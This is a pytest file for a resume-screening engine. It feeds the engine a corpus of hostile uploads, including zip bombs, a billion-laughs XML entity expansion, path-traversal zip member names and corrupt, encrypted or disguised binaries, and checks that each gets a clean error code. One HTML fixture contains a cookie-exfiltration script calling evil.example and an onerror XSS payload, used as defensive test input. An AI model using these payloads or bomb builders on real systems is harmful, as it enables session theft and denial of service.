"""A corpus of hostile uploads (corrupt, encrypted, zip bombs, 50 MB, binary renamed .txt, HTML with
script, pathological text): each gets a clear per-file message with a stable code, nothing raises, and
the rest of a batch goes on — through the engine's intake and through ``manage.py screen``."""

from __future__ import annotations

import io
import json
import random
import zipfile

import pytest
from django.core.management import call_command

from recruiting.screening import ExtractionError, extract_text, iter_batch, iter_paths, ocr_available
from recruiting.screening.extracted import ERROR_CODES

from . import builders

MB = 1024 * 1024
GOOD = "张伟\n电话：13812345678\n工作经历\n2019.03-至今 上海某某科技有限公司 高级工程师\n熟悉Python、MySQL与团队管理，沟通协调能力强。"
OCR = ocr_available()


def _billion_laughs() -> str:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{"&lol%s;" % ("" if i == 1 else i - 1) * 10}">' for i in range(1, 10)
    )
    return builders.docx_xml(builders.paragraphs("&lol9;"), prolog=f"<!DOCTYPE lolz [{entities}]>")


def _corpus() -> dict[str, tuple[bytes, set[str]]]:
    """name → (content, acceptable outcomes); an outcome is an error code or "ok"."""
    rng = random.Random(7)
    real_pdf = builders.text_pdf(GOOD)
    real_zip = builders.make_zip({"a.txt": GOOD.encode(), "b.txt": GOOD.encode()})
    corpus: dict[str, tuple[bytes, set[str]]] = {
        # empty and oversized
        "empty.txt": (b"", {"empty"}),
        "whitespace.txt": (b" \n\t\r\n   ", {"empty"}),
        "huge_50mb.pdf": (b"%PDF-1.4\n" + b"0" * (50 * MB), {"too_large"}),
        "big_11mb.txt": (("简历" * (11 * MB // 6)).encode(), {"too_large"}),
        # zips and zip bombs
        "bomb_ratio.zip": (builders.make_zip({"bomb.txt": b"\0" * (5 * MB)}), {"zip_bomb"}),
        "bomb_entries.zip": (builders.make_zip({f"{i}": b"" for i in range(20_001)}, compression=zipfile.ZIP_STORED), {"zip_bomb"}),
        "bomb_declared.zip": (builders.patch_central_directory(real_zip, uncompressed=0xF0000000), {"zip_bomb"}),
        "nested.zip": (builders.make_zip({"inner.zip": builders.make_zip({"bomb.txt": b"\0" * MB})}), {"unsupported"}),
        "encrypted_member.zip": (builders.patch_central_directory(real_zip, flag_bits=0x1), {"encrypted"}),
        "truncated.zip": (real_zip[: len(real_zip) // 2], {"corrupt"}),
        "not_a_zip.zip": (b"this is plain text, not a zip archive" * 4, {"corrupt"}),
        # DOCX
        "bomb.docx": (builders.make_docx(document_xml=builders.docx_xml("<w:p>" + "a" * (5 * MB) + "</w:p>")), {"zip_bomb"}),
        "entities.docx": (builders.make_docx(document_xml=_billion_laughs()), {"zip_bomb"}),
        "no_document.docx": (builders.make_zip({"[Content_Types].xml": builders.CONTENT_TYPES}), {"corrupt"}),
        "bad_xml.docx": (builders.make_docx(document_xml="<w:document><w:body><w:p>unclosed"), {"corrupt"}),
        "truncated.docx": (builders.make_docx(GOOD)[:300], {"corrupt"}),
        "encrypted.docx": (builders.ole_file(encrypted=True), {"encrypted"}),
        "legacy.doc": (builders.ole_file(encrypted=False), {"unsupported"}),
        "many_entries.docx": (
            builders.make_docx(GOOD, extra={f"word/media/{i}.xml": "<x/>" for i in range(600)}), {"zip_bomb"}
        ),
        "text_named.docx": (GOOD.encode(), {"corrupt"}),
        # PDF
        "garbage.pdf": (b"%PDF-1.4\n" + bytes(rng.randrange(256) for _ in range(4000)), {"corrupt"}),
        "truncated.pdf": (real_pdf[: len(real_pdf) // 3], {"corrupt"}),
        "encrypted.pdf": (builders.encrypted_pdf(), {"encrypted"}),
        "no_pages.pdf": (builders.build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]), {"corrupt", "empty"}),
        "scanned.pdf": (builders.image_pdf("张伟 电话 13812345678 高级工程师"), {"ok"} if OCR else {"no_text_layer"}),
        "blank_page.pdf": (builders.blank_pdf(), {"empty", "no_text_layer"}),
        "exe_renamed.pdf": (b"MZ\x90\x00" + bytes(rng.randrange(256) for _ in range(2000)), {"unsupported"}),
        # images
        "photo.png": (builders.text_png("张伟 电话 13812345678"), {"ok"} if OCR else {"no_text_layer"}),
        "photo.gif": (b"GIF89a" + b"\x01\x00\x01\x00\x00\x00\x00;", {"corrupt", "empty"} if OCR else {"no_text_layer"}),
        "bad.jpg": (b"\xff\xd8\xff\xe0" + b"\x00" * 100, {"corrupt", "empty"} if OCR else {"no_text_layer"}),
        # binaries and encodings
        "elf_renamed.txt": (b"\x7fELF\x02\x01\x01" + bytes(rng.randrange(256) for _ in range(3000)), {"unsupported"}),
        "random_binary.txt": (bytes(rng.randrange(256) for _ in range(5000)) + b"\x00", {"unsupported"}),
        "undecodable.txt": (b"\x80\xff" * 200, {"bad_encoding"}),
        "control_chars.txt": (("简历\x01\x02\x03" * 300).encode(), {"unsupported"}),
        "resume.rtf": (b"{\\rtf1\\ansi \\b Zhang Wei\\b0}", {"unsupported"}),
        "archive.7z": (b"7z\xbc\xaf\x27\x1c" + b"\x00" * 64, {"unsupported"}),
        "archive.gz": (b"\x1f\x8b\x08" + b"\x00" * 64, {"unsupported"}),
        # HTML
        "script_only.html": (b"<html><script>alert(document.cookie)</script><style>p{}</style></html>", {"empty"}),
        "with_script.html": (
            ("<html><body><script>fetch('//evil.example/'+document.cookie)</script><p>" + GOOD.replace("\n", "<br>")
             + "</p><img src=x onerror=alert(1)></body></html>").encode(),
            {"ok"},
        ),
        "deep_nesting.html": (("<div>" * 50_000 + "张伟 简历 2019.03-至今 某某有限公司 经理" + "</div>" * 50_000).encode(), {"ok"}),
        # pathological text that must parse in linear time (text without a single word is no resume:
        # issue 14 item 4 — the linear-time guard for such runs is test_long_runs_of_one_pattern_…)
        "digits.txt": (b"1" * 190_000, {"no_content"}),
        "one_digit_5mb.txt": (b"7" * (5 * MB), {"no_content"}),
        "one_letter.txt": (b"a" * 100_000, {"no_content"}),
        "ranges.txt": (("2019.03-" * 20_000).encode(), {"no_content"}),
        "utf16le_no_bom.txt": (GOOD.encode("utf-16-le"), {"ok"}),
        "utf16be_no_bom.txt": (GOOD.encode("utf-16-be"), {"ok"}),
        "repeated_jobs.txt": (("2019年起任某某公司总经理，" * 5_000).encode(), {"ok"}),
        "headings.txt": (("教育\n2019.03-至今 北京大学 本科\n" * 4_000).encode(), {"ok"}),
        "zero_width.txt": (("\u200b\u200d\ufeff" * 30_000 + "张伟").encode(), {"ok"}),
        "traversal.zip": (builders.make_zip({"../../etc/passwd.txt": GOOD.encode()}), {"ok"}),
    }
    return corpus


@pytest.fixture(scope="module")
def corpus():
    return _corpus()


def _outcomes(name: str, data: bytes) -> list[str]:
    return ["ok" if item.ok else item.error.code for item in iter_batch(data, name)]


def test_the_corpus_has_at_least_thirty_hostile_files(corpus):
    assert len(corpus) >= 30


def test_every_hostile_file_gets_its_expected_outcome_and_a_clear_message(corpus):
    problems = []
    for name, (data, expected) in sorted(corpus.items()):
        items = list(iter_batch(data, name))
        assert items, name
        for item in items:
            outcome = "ok" if item.ok else item.error.code
            if outcome not in expected:
                problems.append(f"{name}: got {outcome}, expected {sorted(expected)}")
            if item.error is not None:
                assert item.error.code in ERROR_CODES
                assert item.error.message_zh.strip() and item.error.message_en.strip()
                assert "Traceback" not in item.error.message_zh + item.error.message_en
    assert problems == []


def test_a_bad_member_does_not_stop_the_rest_of_a_zip():
    data = builders.make_zip(
        {
            "1.txt": GOOD.encode(),
            "2.pdf": builders.encrypted_pdf(),
            "3.txt": b"\x80\xff" * 100,
            "4.zip": builders.make_zip({"x.txt": b"x"}),
            "5.docx": builders.make_docx(GOOD),
        }
    )
    assert _outcomes("batch.zip", data) == ["ok", "encrypted", "bad_encoding", "unsupported", "ok"]


def test_html_script_content_never_reaches_the_text(corpus):
    text = extract_text(corpus["with_script.html"][0], "with_script.html").text
    assert "evil.example" not in text and "document.cookie" not in text and "onerror" not in text
    assert "张伟" in text


def test_oversized_file_on_disk_is_refused_without_reading_it(tmp_path):
    path = tmp_path / "huge.pdf"
    with path.open("wb") as handle:
        handle.truncate(50 * MB)  # sparse: 50 MB on paper, nothing to read
    (item,) = list(iter_paths([path]))
    assert item.error.code == "too_large"
    assert "50.0 MB" in item.error.message_zh and "50.0 MB" in item.error.message_en


def test_unknown_code_is_a_programming_error():
    with pytest.raises(ValueError):
        ExtractionError("not_a_code")


@pytest.mark.django_db
def test_screen_command_survives_the_whole_corpus(corpus, tmp_path, ehr, capsys):
    paths = []
    for name, (data, _) in sorted(corpus.items()):
        path = tmp_path / name
        path.write_bytes(data)
        paths.append(str(path))
    missing = str(tmp_path / "does_not_exist.txt")
    call_command("screen", "--position", ehr["position"].code, *paths, missing, "--no-history")
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    summary = lines[-1]
    results = lines[:-1]
    assert summary["summary"] is True
    assert summary["files"] == len(results) == summary["scored"] + summary["failed"]
    by_file = {}
    for line in results:
        by_file.setdefault(line["file"].replace(str(tmp_path) + "/", ""), []).append(line)
    for name, (_, expected) in corpus.items():
        for line in by_file[name] if name in by_file else [v for k, vs in by_file.items() if k.startswith(name + "/") for v in vs]:
            if line["score"] is None:
                assert line["error"]["code"] in expected, (name, line["error"])
                assert line["flags"][0]["code"] == "extraction_failed"
                assert line["flags"][0]["message_zh"] and line["flags"][0]["message_en"]
            else:
                assert "ok" in expected, name
                assert 0 <= line["score"] <= 100
    assert by_file["does_not_exist.txt"][0]["error"]["code"] == "corrupt"


def test_zip_member_names_are_only_labels(tmp_path, monkeypatch):
    """A member called ../../etc/passwd.txt is read from memory; nothing is written anywhere."""
    monkeypatch.chdir(tmp_path)
    data = builders.make_zip({"../../escape.txt": GOOD.encode()})
    (item,) = list(iter_batch(data, "t.zip"))
    assert item.ok and item.name == "../../escape.txt"
    assert list(tmp_path.iterdir()) == [] and not (tmp_path.parent.parent / "escape.txt").exists()


def test_zip_of_text_that_lies_about_its_size_is_not_trusted():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("big.txt", b"A" * (2 * MB))
    forged = builders.patch_central_directory(buffer.getvalue(), uncompressed=100)
    (item,) = list(iter_batch(forged, "forged.zip"))
    assert not item.ok and item.error.code in {"zip_bomb", "corrupt"}


LONG_RUNS = ["1", "a", "A", "Aa ", "年", "a@", "2019.03-", "Senior ", "有限公司", "（", "\n大学", "University ", "带领", "经验"]


@pytest.mark.parametrize("unit", LONG_RUNS)
def test_long_runs_of_one_pattern_parse_in_linear_time(engine, unit):
    """Regression guard: each of these once made a pattern quadratic (minutes for 60,000 characters)."""
    from recruiting.screening import PositionModel, RequiredSkill

    model = PositionModel(code="X", title_zh="工程师", required_skills=(RequiredSkill("Python", must_have=True),),
                          min_years=3, min_education="本科", text="工程师 Python developer")
    parsed, result = engine.screen_text(unit * (60_000 // len(unit)), model)
    assert 0 <= result.score <= 100
    assert len(parsed.experience) <= 100 and len(parsed.education) <= 100
